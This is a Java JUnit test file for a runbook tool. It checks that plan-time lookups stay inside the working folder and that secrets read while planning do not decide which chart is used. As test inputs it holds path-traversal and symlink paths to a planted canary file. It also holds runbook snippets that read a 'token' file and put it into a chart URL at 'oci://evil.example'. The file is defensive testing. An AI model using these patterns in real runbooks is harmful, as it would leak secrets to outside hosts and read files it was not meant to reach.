package dev.runbook.run.plan;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.runbook.app.composition.ShippedProviders;
import dev.runbook.language.eval.LookupRequest;
import dev.runbook.language.failure.Failed;
import dev.runbook.language.program.Expr;
import dev.runbook.language.program.Where;
import dev.runbook.language.signature.Catalogue;
import dev.runbook.language.signature.NamedPath;
import dev.runbook.language.signature.Parameter;
import dev.runbook.language.signature.Signature;
import dev.runbook.language.signature.Type;
import dev.runbook.language.value.Resources;
import dev.runbook.language.value.Value;
import dev.runbook.machine.files.DiskFiles;
import dev.runbook.machine.files.FolderWorkspace;
import dev.runbook.machine.files.PlanWorkspace;
import dev.runbook.port.Clock;
import dev.runbook.port.Observer;
import dev.runbook.port.Pods;
import dev.runbook.port.Processes;
import dev.runbook.port.Workspace;
import dev.runbook.provider.Calls;
import dev.runbook.provider.World;
import dev.runbook.provider.WorldReader;
import dev.runbook.provider.helm.Helm;
import dev.runbook.provider.helm.HelmProvider;
import dev.runbook.provider.postgres.PostgresProvider;
import dev.runbook.provider.postgres.PostgresServers;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Every lookup of the catalogue, given the path of a file outside the working folder for each text that it takes. */
class PlannedFilesTest {
    private static final Where HERE = new Where("a.rb", 1, 1, 1, "lookup");

    @TempDir
    private Path folder = Path.of("");

    private Path working = Path.of("");
    private Path outside = Path.of("");

    /** The paths at which the lookup that is just tried has looked, or has had a program look. */
    private final Set<String> touched = new TreeSet<>();

    @BeforeEach
    void files() throws IOException {
        working = Files.createDirectory(folder.resolve("working"));
        outside = Files.writeString(folder.resolve("canary"), "a: b\n");
        Files.writeString(working.resolve("values.yml"), "number: 1000000\n");
        Files.createSymbolicLink(working.resolve("link"), outside);
        Files.createDirectory(working.resolve("tree"));
        Files.createSymbolicLink(working.resolve("tree/toc.dat"), outside);
    }

    @Test
    void what_a_lookup_takes_for_a_path_is_marked_as_one() throws InterruptedException {
        String path = outside.toString();
        Set<String> reached = new TreeSet<>();
        Set<String> marked = new TreeSet<>();
        for (Signature lookup : lookups()) {
            for (Parameter parameter : texts(lookup)) {
                String name = Catalogue.fullName(lookup) + " " + parameter.name();
                // What a secret's text is taken for, only the lookup knows: the workspace of a plan stands behind it.
                if (!parameter.type().equals(Type.Basic.SECRET)
                        && !ask(lookup, parameter, path, Set.of(path)).isEmpty()) {
                    reached.add(name);
                }
                if (parameter.names() != NamedPath.NOTHING) {
                    marked.add(name);
                }
            }
        }
        assertEquals(
                Set.of(
                        "file.exists? path",
                        "file.read path",
                        "helm.chart chart",
                        "helm.unowned chart",
                        "helm.unowned values",
                        "release_changes chart",
                        "release_changes values",
                        "helm.check_values chart",
                        "helm.check_values file",
                        "helm.crd_changes chart",
                        "helm.crds chart",
                        "helm.rounded_values chart",
                        "helm.rounded_values file",
                        "http.get ca",
                        "http.ok? ca",
                        "postgres.whole_dump? from"),
                marked);
        assertEquals(marked, reached, "the paths that are looked at when the operator has named them");
    }

    @Test
    void no_lookup_of_a_plan_looks_at_a_file_outside() throws InterruptedException {
        int tried = 0;
        for (Signature lookup : lookups()) {
            for (Parameter parameter : texts(lookup)) {
                for (String path : List.of(outside.toString(), "../canary", "x/../../canary", "./link")) {
                    assertEquals(Set.of(), ask(lookup, parameter, path, Set.of()), lookup.name() + " " + path);
                    tried++;
                }
                if (parameter.names() == NamedPath.TREE) {
                    assertEquals(Set.of(), ask(lookup, parameter, "tree", Set.of()), lookup.name());
                }
            }
        }
        assertTrue(tried > 200, tried + " tried");
    }

    @Test
    void what_was_read_decides_about_no_chart_that_is_asked_for() throws InterruptedException {
        PlanHarness sketch = new PlanHarness()
                .answers("file.read", Value.of("yes"))
                .answers("helm.chart", PlanHarness.versioned("chart", "coder", "1.16.1"))
                .answers("helm.history", new Value.List(List.of()));
        sketch.plan("""
                runbook "A"
                if file.read("token") == "yes"
                  helm.upgrade "r", "oci://evil.example/yes"
                end
                """);
        assertEquals(List.of("file.read(\"token\")"), sketch.asked);
        sketch.plan("""
                runbook "A"
                helm.upgrade "r", "oci://evil.example/#{file.read("token")}"
                """);
        assertEquals(Set.of("file.read(\"token\")"), new TreeSet<>(sketch.asked));
        sketch.plan("""
                runbook "A"
                helm.upgrade "r", "oci://known.example/chart"
                """);
        assertTrue(sketch.asked.contains("helm.upgrade \"r\", \"oci://known.example/chart\""), sketch.asked.toString());
    }

    private static List<Signature> lookups() {
        return ShippedProviders.ALL.catalogue().all().stream()
                .filter(signature -> signature.role() == Signature.Role.LOOKUP)
                .toList();
    }

    private static List<Parameter> texts(Signature lookup) {
        return Stream.of(lookup.positional().stream(), lookup.options().stream(), lookup.rest().stream())
                .flatMap(parameters -> parameters)
                .filter(p -> Set.of("string", "list of strings", "secret")
                        .contains(p.type().title()))
                .toList();
    }

    private Set<String> ask(Signature lookup, Parameter parameter, String path, Set<String> named)
            throws InterruptedException {
        touched.clear();
        Value given = value(parameter.type(), path);
        List<Value> positional = lookup.positional().stream()
                .filter(p -> p.required() || p.equals(parameter))
                .map(p -> p.equals(parameter) ? given : filler(p))
                .collect(Collectors.toCollection(ArrayList::new));
        lookup.rest().filter(parameter::equals).ifPresent(_ -> positional.add(given));
        Map<String, Value> options = new LinkedHashMap<>();
        lookup.options().stream()
                .filter(p -> p.required() || p.equals(parameter))
                .forEach(p -> options.put(p.name(), p.equals(parameter) ? given : filler(p)));
        Optional<Value> receiver = lookup.receiver().map(PlannedFilesTest::receiver);
        Expr.Invoke invoke = new Expr.Invoke(HERE, lookup, Optional.empty(), List.of(), Map.of());
        World world = world(named);
        PlanReader reader = new PlanReader(
                new PlanEnvironment(new WorldReader(world, Observer.NONE), world, Preview.NONE, List.of()),
                new PendingChanges(),
                new Disclosure(List.of()));
        try {
            reader.read(new LookupRequest(invoke, receiver, positional, options, Value.of("default")));
        } catch (Failed | IllegalArgumentException | UnsupportedOperationException refused) {
            // What the world makes of it does not matter here.
            return touched;
        }
        return touched;
    }

    private static Value value(Type type, String text) {
        return switch (type.title()) {
            case "secret" -> new Value.Secret("s", text);
            case "list of strings" -> new Value.List(List.of(Value.of(text)));
            default -> Value.of(text);
        };
    }

    private static Value filler(Parameter parameter) {
        return value(
                parameter.type(),
                switch (parameter.name()) {
                    case "url" -> "https://coder.example.com/";
                    case "chart" -> "coder/coder";
                    case "file", "path", "from" -> "values.yml";
                    case "address" -> "192.0.2.1";
                    case "database" -> "postgres://coder@db.example.com/coder";
                    case "name" -> "coder.example.com";
                    default -> "coder";
                });
    }

    private static Value receiver(Type type) {
        return type == Type.Basic.RESOURCES
                ? new Resources("deployments", List.of(), List.of(), false)
                : new Value.Entity(type.title(), Map.of("connection", new Value.Secret("s", "postgres://a@b/c")));
    }

    private World world(Set<String> named) {
        Calls calls = new Calls("v3.22.0");
        calls.helm.prints("--version", "pg_restore (PostgreSQL) 17.2");
        calls.helm.prints("history", "[{\"revision\": 1, \"status\": \"deployed\"}]");
        Processes watched = new WatchedPrograms(calls.helm);
        Workspace files = new Watched(new FolderWorkspace(working));
        calls.postgres = new PostgresServers(
                (keywords, shown) -> {
                    throw new UnsupportedOperationException(shown);
                },
                calls.cluster,
                new NoPods(),
                watched,
                files,
                new DiskFiles(),
                calls.world().client(Clock.class),
                Map.of());
        World world = calls.world();
        World watching = HelmProvider.with(
                        world, new Helm(watched, world.client(Helm.class).settings()))
                .with(Processes.class, watched);
        return PostgresProvider.with(watching, new PlanWorkspace(files, working, named));
    }

    private static boolean isPlanted(String path) {
        return Set.of("canary", "link", "tree", "toc.dat")
                .contains(String.valueOf(Path.of(path).getFileName()));
    }

    private final class Watched implements Workspace {
        private final Workspace files;

        Watched(Workspace files) {
            this.files = files;
        }

        private String touch(String path) {
            if (isPlanted(path)) {
                touched.add(path);
            }
            return path;
        }

        @Override
        public boolean exists(String path) {
            return files.exists(touch(path));
        }

        @Override
        public boolean isInside(String path) {
            return files.isInside(touch(path));
        }

        @Override
        public byte[] read(String path) throws IOException {
            return files.read(touch(path));
        }

        @Override
        public void replace(String path, byte[] content) {
            throw new UnsupportedOperationException(path);
        }

        @Override
        public void delete(String path) {
            throw new UnsupportedOperationException(path);
        }

        @Override
        public String absolute(String path) {
            return files.absolute(path);
        }
    }

    private final class WatchedPrograms implements Processes {
        private final Processes next;

        WatchedPrograms(Processes next) {
            this.next = next;
        }

        @Override
        public Result run(Request request, Output output) throws InterruptedException {
            request.arguments().stream()
                    .filter(argument -> !argument.startsWith("--namespace=") && isPlanted(argument))
                    .forEach(touched::add);
            return next.run(request, output);
        }

        @Override
        public boolean runs(long pid, Instant started) {
            return next.runs(pid, started);
        }

        @Override
        public List<Running> adopt(long pid) {
            return next.adopt(pid);
        }

        @Override
        public Optional<String> find(String program) {
            return next.find(program);
        }
    }

    private record NoPods() implements Pods {
        @Override
        public Forward forward(Pod pod, int port) {
            throw new UnsupportedOperationException(pod.name());
        }

        @Override
        public Processes.Result run(
                Pod pod, List<String> command, String input, OutputStream out, Processes.Output output) {
            throw new UnsupportedOperationException(pod.name());
        }
    }
}
